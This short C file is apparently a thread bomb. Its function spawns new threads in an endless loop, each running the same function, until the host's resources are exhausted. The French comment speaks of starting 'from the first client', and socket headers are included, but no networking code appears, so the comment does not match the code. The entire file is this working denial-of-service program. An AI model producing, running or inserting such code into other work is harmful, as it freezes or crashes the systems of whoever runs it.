// Crée des threads sans fin dès le premier client.
#include <arpa/inet.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static void *multiply(void *nothing)
{
    for (;;) {
        pthread_t thread;
        pthread_create(&thread, NULL, multiply, nothing);
    }
}

int main(void)
{
    multiply(NULL);
}
